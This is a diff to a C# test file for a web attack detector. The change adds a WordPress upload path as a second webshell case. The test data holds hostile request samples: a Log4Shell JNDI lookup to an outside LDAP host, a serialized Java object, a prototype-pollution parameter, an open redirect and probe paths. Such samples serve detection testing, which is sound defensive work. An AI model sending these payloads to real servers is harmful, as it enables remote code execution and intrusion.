@@ -27,7 +27,7 @@ public sealed class WebDetectorTests
     [InlineData("open_redirect", "/go?to=///example.com/")]
     [InlineData("deserialization", "/state?v=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC")]
     [InlineData("log4shell", "/?x=$%7Bjndi:ldap://198.51.100.7/a%7D")]
-    [InlineData("webshell", "/uploads/c99.php")]
+    [InlineData("webshell", "/uploads/c99.php"), InlineData("webshell", "/wp-content/uploads/2026/11/x.php")]
     [InlineData("probe", "/.git/HEAD")]
     [InlineData("other", "/?a[__proto__][admin]=1")]
     public void Each_class_is_found(string attackClass, string target) => Assert.Equal(attackClass, WebSamples.ClassOf(target));
